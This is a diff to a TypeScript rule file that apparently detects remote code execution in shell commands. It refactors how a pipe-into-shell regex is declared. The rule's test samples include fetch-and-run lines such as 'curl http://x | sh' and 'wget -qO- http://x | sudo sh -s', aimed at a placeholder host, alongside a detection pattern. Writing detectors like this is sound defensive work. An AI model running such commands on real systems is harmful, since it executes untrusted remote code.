@@ -1,5 +1,5 @@
 import { ShellCommandLexer } from '../lex/shell-command.ts'
-import { needsOneOf, pattern, type Rule, type Span } from '../rule/rule.ts'
+import { pattern, type Rule, type Span } from '../rule/rule.ts'
 import { CHAR } from '../value/features.ts'
 import type { Reading } from '../value/reading.ts'
 import { WORD } from '../value/words.ts'
@@ -213,7 +213,7 @@ export const rceRules: readonly Rule[] = [
     bare: true,
     chars: CHAR.pipe,
     words: WORD.shell,
-    ...needsOneOf(/\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh/),
+    needs: [/\|\s{0,4}(?:sudo\s{1,4})?(?:ba|z|k|da)?sh/],
     find: findPipeIntoShell,
     attacks: ['curl http://x | sh', 'x | bash', 'wget -qO- http://x | sudo sh -s'],
     benign: ['the | shell', 'curl x | less', 'curl x\nls | sh -c a'],
